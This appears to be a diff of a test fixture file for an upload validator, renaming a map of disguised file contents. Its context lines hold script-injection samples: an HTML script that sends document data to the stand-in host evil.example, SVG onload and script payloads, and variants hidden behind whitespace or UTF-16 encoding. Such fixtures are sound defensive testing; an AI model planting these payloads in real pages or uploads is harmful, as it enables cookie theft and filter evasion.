@@ -5,7 +5,7 @@ export const HTML = '<!doctype html><html><script>fetch("//evil.example?"+docume
 const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
 
 /** Contents of other file types, used to disguise them as accepted ones. */
-export const OTHERS: Readonly<Record<string, Buffer>> = {
+export const OTHER_TYPES: Readonly<Record<string, Buffer>> = {
   html: Buffer.from(HTML),
   'html after spaces': Buffer.from(`${' '.repeat(2000)}${HTML}`),
   'html in UTF-16': Buffer.from(`\ufeff${HTML}`, 'utf16le'),
